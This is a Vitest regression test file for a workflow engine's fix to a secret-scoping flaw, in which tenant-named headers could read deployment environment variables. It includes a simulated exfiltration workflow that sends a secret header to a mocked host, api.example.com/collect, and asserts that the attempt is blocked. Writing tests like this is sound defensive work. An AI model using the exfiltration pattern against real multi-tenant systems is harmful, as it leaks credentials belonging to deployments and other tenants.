// Attack (issue 9 items 1 and 3): a header `{ "$secret": NAME }` resolved ANY environment variable of the
// process running the workflow, and secret names are built from tenant-chosen node ids and header names
// (`cutover` + `dispatch-secret` → CUTOVER_DISPATCH_SECRET). Secrets now resolve only from the run's
// workspace's namespace, CUTOVER_SECRET_<WORKSPACE>__<NAME> (workflow/secrets.ts), on both executors.
import { HttpResponse, http } from "msw";
import { setupServer } from "msw/node";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createExecutor } from "../../executors/factory.ts";
import { compileWorkflow } from "../../workflow/compile.ts";
import {
  SecretScopeError,
  secretVariable,
  secretVariables,
  workspaceSecrets,
} from "../../workflow/secrets.ts";
import { chain, node } from "../graphs.ts";

/** The deployment's own settings, as an attacker would hope to read them. */
const DEPLOYMENT = {
  CUTOVER_DISPATCH_SECRET: "deployment-dispatch-secret-value",
  CUTOVER_SECRETS_KEY: "deployment-secrets-key-value",
  CUTOVER_SECRET_HEADER_PATTERN: "deployment-pattern-value",
  CUTOVER_CONVEX_KEY: "deployment-convex-key-value",
  OPENAI_API_KEY: "sk-deploymentkeydeploymentkey",
  CONVEX_DEPLOY_KEY: "prod:deployment|deploykeydeploykeydeploykey",
  INNGEST_SIGNING_KEY: "signkey-prod-deploymentsigning",
  INNGEST_EVENT_KEY: "deployment-event-key-value",
};

describe("the per-workspace secret namespace", () => {
  it("maps (workspace, name) to one variable and back", () => {
    expect(secretVariable("default", "FETCH_AUTHORIZATION")).toBe(
      "CUTOVER_SECRET_DEFAULT__FETCH_AUTHORIZATION",
    );
    expect(secretVariable("ws_pilot", "HOOK_X_API_KEY")).toBe("CUTOVER_SECRET_WS_PILOT__HOOK_X_API_KEY");
  });

  it("refuses workspace ids that would share variables, and names the compiler never makes", () => {
    // ws-a and ws_a, or WS and ws, would upper-case to the same variables.
    for (const ws of ["ws-a", "WS", "Ws_a", "a__b", "_a", "a_", "", "a.b", "a b"]) {
      expect(() => secretVariable(ws, "X"), ws).toThrow(SecretScopeError);
    }
    for (const name of ["", "lower", "A__B", "_A", "A_", "A-B", "A B", "../X"]) {
      expect(() => secretVariable("default", name), name).toThrow(SecretScopeError);
    }
  });

  it("no name a tenant can form reaches a deployment variable, whatever its workspace", () => {
    const env = { ...DEPLOYMENT };
    const names = [
      "CUTOVER_DISPATCH_SECRET",
      "DISPATCH_SECRET",
      "OPENAI_API_KEY",
      "API_KEY",
      "HEADER_PATTERN",
      "PATTERN",
      "KEY",
      "SECRETS_KEY",
      "CONVEX_DEPLOY_KEY",
      "INNGEST_SIGNING_KEY",
    ];
    const workspaces = ["default", "header", "cutover", "s", "secrets", "dispatch", "openai", "a"];
    for (const ws of workspaces) {
      const resolve = workspaceSecrets(ws, { env });
      for (const name of names) expect(resolve(name), `${ws}/${name}`).toBeUndefined();
    }
    // Whatever the pair, the variable read starts with the prefix and holds a `__`, which no
    // deployment variable does.
    for (const variable of Object.keys(DEPLOYMENT)) expect(variable).not.toMatch(/^CUTOVER_SECRET_.*__/);
  });

  it("workspace a's name B_C never reads workspace a_b's secret C", () => {
    const env = { [secretVariable("a_b", "C")]: "a_b's secret" };
    expect(workspaceSecrets("a", { env })("B_C")).toBeUndefined();
    expect(workspaceSecrets("a_b", { env })("C")).toBe("a_b's secret");
    expect(secretVariable("a", "B_C")).not.toBe(secretVariable("a_b", "C"));
  });

  it("the embedded overlay is keyed by the same variables", () => {
    const overlay = secretVariables("acme", { HOOK_AUTHORIZATION: "Bearer acme-value" });
    expect(workspaceSecrets("acme", { env: {}, overlay })("HOOK_AUTHORIZATION")).toBe("Bearer acme-value");
    expect(workspaceSecrets("globex", { env: {}, overlay })("HOOK_AUTHORIZATION")).toBeUndefined();
  });
});

// The attack end to end: a builder graph whose node `cutover` sends a `dispatch-secret` header, so the
// compiler names its secret CUTOVER_DISPATCH_SECRET, run on both executors in a process whose own
// CUTOVER_DISPATCH_SECRET (and every other deployment variable) is set.
const seen: Record<string, string>[] = [];
const server = setupServer(
  http.get("https://api.example.com/collect", ({ request }) => {
    seen.push(Object.fromEntries(request.headers.entries()));
    return HttpResponse.json({ ok: true });
  }),
);
const saved: Record<string, string | undefined> = {};

beforeAll(() => {
  server.listen({ onUnhandledRequest: "error" });
  for (const [k, v] of Object.entries({
    ...DEPLOYMENT,
    CUTOVER_HTTP_ALLOW_HOSTS: "api.example.com",
    CUTOVER_LOG_LEVEL: "silent",
  })) {
    saved[k] = process.env[k];
    process.env[k] = v;
  }
});
afterEach(() => {
  seen.length = 0;
});
afterAll(() => {
  server.close();
  for (const [k, v] of Object.entries(saved)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
});

function exfiltrating() {
  const result = compileWorkflow(
    chain([
      node("cutover", "http", {
        method: "GET",
        url: "https://api.example.com/collect",
        headers: { "dispatch-secret": "placeholder-value" },
      }),
    ]),
  );
  if (!result.ok) throw new Error(JSON.stringify(result.errors));
  return result.compiled;
}

describe.each(["convex", "inngest"] as const)("on %s", (name) => {
  it("a secret named like a deployment variable is unresolvable: the step fails SECRET_MISSING and nothing is sent", async () => {
    const workflow = exfiltrating();
    expect(workflow.secrets).toEqual(["CUTOVER_DISPATCH_SECRET"]);
    const executor = createExecutor(name, { env: {}, announce: () => {} });
    const runId = `exfil-${name}`;
    await executor.submit({ runId, workspaceId: "default", workflow, input: {} });
    const record = await executor.waitFor("default", runId);
    expect(record.status).toBe("failed");
    expect(record.error?.code).toBe("SECRET_MISSING");
    expect(seen).toEqual([]);
    const bytes = JSON.stringify(record);
    for (const value of Object.values(DEPLOYMENT)) expect(bytes).not.toContain(value);
  });

  it("the workspace's own secret of that name resolves, and only for that workspace", async () => {
    const workflow = exfiltrating();
    const variable = secretVariable("acme", "CUTOVER_DISPATCH_SECRET");
    process.env[variable] = "acme-own-value";
    try {
      const executor = createExecutor(name, { env: {}, announce: () => {} });
      await executor.submit({ runId: `own-${name}`, workspaceId: "acme", workflow, input: {} });
      expect((await executor.waitFor("acme", `own-${name}`)).status).toBe("completed");
      expect(seen.map((h) => h["dispatch-secret"])).toEqual(["acme-own-value"]);
      await executor.submit({ runId: `other-${name}`, workspaceId: "globex", workflow, input: {} });
      const other = await executor.waitFor("globex", `other-${name}`);
      expect(other.error?.code).toBe("SECRET_MISSING");
      expect(seen).toHaveLength(1);
    } finally {
      delete process.env[variable];
    }
  });
});
